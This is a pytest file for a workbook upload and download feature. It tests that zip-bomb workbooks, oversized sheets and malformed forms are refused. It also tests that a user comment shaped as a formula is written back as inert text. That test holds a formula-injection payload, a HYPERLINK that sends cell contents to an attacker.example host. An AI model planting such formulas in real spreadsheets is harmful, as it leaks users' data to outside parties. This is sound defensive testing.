# ruff: noqa: F811 (the shared fixtures are imported, then asked for by name)
"""Hostile or empty workbooks uploaded on the entry page: refused with a message, nothing saved, no version bumped;
text typed by users comes back in the downloaded workbook as text, never as a formula."""

import io
import zipfile
from decimal import Decimal

from dieuhanh.indicators.models import DataValue
from dieuhanh.indicators.services import ValueInput
from dieuhanh.reporting.models import Submission
from dieuhanh.reporting.services import submission_save_values
from dieuhanh.reporting.tests.test_xlsx import (  # noqa: F401 (fixtures)
    PERIOD,
    download,
    english,
    filled,
    refused,
    row_of,
    save,
    sheet,
    workbook,
)


def test_it_refuses_a_workbook_that_inflates_far_beyond_its_size(client, filled, sheet):
    wb, _ws = sheet
    data = save(wb)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        dst.writestr("xl/media/padding.bin", b"\0" * (64 * 1024 * 1024))  # 64 MB of zeros: ~64 kB packed
    version = Submission.objects.get().version
    errors = refused(client, filled, out.getvalue(), "unpacks to 64,0 MB, over the limit of 30,0 MB")
    assert len(errors) == 1
    assert Submission.objects.get().version == version


def test_it_refuses_a_cell_at_the_last_row(client, filled, sheet):
    wb, ws = sheet
    ws.cell(1_048_576, 6).value = 1
    refused(client, filled, save(wb), "reaches row 1.048.576")


def test_it_refuses_a_workbook_without_the_forms_rows_and_keeps_the_version(client, filled, sheet):
    wb, ws = sheet
    for r in range(row_of(ws, "DT_VT") - 1, ws.max_row + 1):  # keep the header block only
        for c in range(1, 9):
            ws.cell(r, c).value = None
    version = Submission.objects.get().version
    refused(client, filled, save(wb), "The workbook has none of the form's rows")
    assert Submission.objects.get().version == version


def test_it_lists_at_most_two_hundred_problems(client, filled, sheet):
    wb, ws = sheet
    first = ws.max_row + 1
    for r in range(first, first + 5_000):
        ws.cell(r, 6).value = 7  # a figure on a row that is not the form's
    errors = refused(client, filled, save(wb), f"Row {first} is not a row of the form")
    assert len(errors) == 201
    assert errors[-1] == f"More problems after row {first + 199} are not listed; correct these first"


def test_it_writes_a_comment_typed_as_a_formula_back_as_text(client, filled, commune_a, reporter_a, revenue):
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
    submission_save_values(form=filled, orgunit=commune_a, period=PERIOD, user=reporter_a, channel="web",
                           values=[ValueInput(revenue, "actual", Decimal("1800"), comment=evil)])
    assert DataValue.objects.get(indicator=revenue, kind="actual").comment == evil
    client.force_login(reporter_a)
    data = download(client, filled).content
    ws = workbook(data).worksheets[0]
    cell = ws.cell(row_of(ws, "DT_VT"), 7)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
